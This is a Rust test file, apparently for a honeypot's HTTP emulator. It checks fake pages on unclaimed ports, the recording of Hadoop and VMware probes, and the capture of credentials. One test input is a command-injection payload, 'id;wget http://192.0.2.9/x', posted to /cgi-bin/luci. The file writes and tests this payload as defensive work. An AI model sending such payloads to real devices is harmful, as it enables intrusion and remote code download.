//! What the same handler shows on different ports.

use std::collections::BTreeSet;

use super::*;

const PAGE: &[u8] = b"GET / HTTP/1.0\r\n\r\n";

fn on(handler: &str, settings: &str, port: u16, bytes: &[u8]) -> Outcome {
    Transcript::tcp(handler, settings).dialling(port).run(&[Step::Recv(bytes), Step::Wait(20_000)])
}

/// Ports that no handler claims, neighbours among them.
const ODD: [u16; 24] = [
    81, 82, 89, 1_080, 2_000, 3_000, 3_001, 3_333, 4_321, 5_000, 7_777, 8_000, 8_001, 8_080, 8_081, 8_888, 9_000,
    9_998, 12_345, 20_547, 31_337, 50_001, 60_022, 60_023,
];

#[test]
fn no_two_ports_show_the_same_page_and_each_shows_its_own_again() {
    let pages: BTreeSet<String> = ODD.iter().chain(&[80]).map(|&port| text(&on("http", "", port, PAGE))).collect();
    assert_eq!(pages.len(), ODD.len() + 1);
    let kinds: BTreeSet<&str> = pages.iter().map(|page| &page[9..12]).collect();
    assert_eq!(kinds, BTreeSet::from(["200", "401"]));
    let servers: BTreeSet<&str> =
        pages.iter().flat_map(|page| page.lines().find(|line| line.starts_with("Server: "))).collect();
    assert!(servers.len() > 3, "{servers:?}");
    for port in [3_000, 60_023] {
        assert_eq!(text(&on("http", "", port, PAGE)), text(&on("http", "", port, PAGE)));
    }
}

#[test]
fn exploits_are_answered_and_recorded_whole_on_any_port() {
    let attack = post("/ws/v1/cluster/apps/new-application", "application/json", "{}");
    for port in ODD {
        let outcome = on("http", "", port, attack.as_bytes());
        assert_eq!(answers(&outcome)[0].0, 200, "{port}");
        let event = outcome.the_event("request");
        assert_eq!(
            (&event.fields["family"], &event.fields["payload_hex"]),
            (&"hadoop".into(), &"7b7d".into()),
            "{port}"
        );
    }
}

#[test]
fn one_port_is_an_esx_host_and_the_others_lack_its_service_but_record_who_asks() {
    let soap = "<soapenv:Body><RetrieveServiceContent xmlns=\"urn:vim25\"/></soapenv:Body>";
    let asked = post("/sdk", "text/xml", soap);
    assert!(text(&on("http", "", 80, asked.as_bytes())).contains("<name>VMware ESX</name>"));
    for port in ODD {
        let outcome = on("http", "", port, asked.as_bytes());
        assert!(!text(&outcome).contains("VMware"), "{port}");
        let event = outcome.the_event("request");
        assert_eq!((&event.fields["family"], &event.fields["bytes"]), (&"vmware".into(), &soap.len().into()), "{port}");
    }
}

#[test]
fn ports_of_other_protocols_answer_no_request_and_record_it_whole() {
    let attack = post("/cgi-bin/luci", "text/plain", "id;wget http://192.0.2.9/x");
    for port in [3_389, 5_432, 6_379, 27_017] {
        let outcome = on("http", "", port, attack.as_bytes());
        assert!(outcome.closed && outcome.sent().is_empty(), "{port}");
        let event = outcome.the_event("request");
        assert_eq!((&event.fields["path"], &event.fields["bytes"]), (&"/cgi-bin/luci".into(), &26.into()), "{port}");
        let outcome = on("http", "", port, b"GET /\xff\0 HTTP/9\r\n\r\n");
        assert!(outcome.closed && outcome.sent().is_empty(), "{port}");
        outcome.the_event("request_malformed");
    }
}

#[test]
fn a_site_or_server_that_is_given_stands_on_every_port() {
    for settings in [NGINX, APACHE, "site = 'hadoop'"] {
        let page = text(&on("http", settings, 80, PAGE));
        for port in [8_080, 12_345, 6_379] {
            assert_eq!(text(&on("http", settings, port, PAGE)), page, "{settings} {port}");
        }
    }
}

#[test]
fn a_guarded_port_takes_credentials_as_the_policy_says() {
    let guarded = ODD.into_iter().find(|&port| answers(&on("http", "", port, PAGE))[0].0 == 401).unwrap();
    let asked = answers(&on("http", "", guarded, PAGE)).remove(0).1;
    assert!(asked.lines().any(|line| line.to_lowercase().starts_with("www-authenticate: basic realm=\"")), "{asked}");
    let request = b"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46eA==\r\n\r\n";
    for (policy, status) in [("credentials = 'reject-all'", 401), ("credentials = 'accept-all'", 200)] {
        let outcome = on("http", policy, guarded, request);
        assert_eq!(answers(&outcome)[0].0, status, "{policy}");
        assert_eq!(outcome.the_event("login").fields["password"], "x");
    }
}
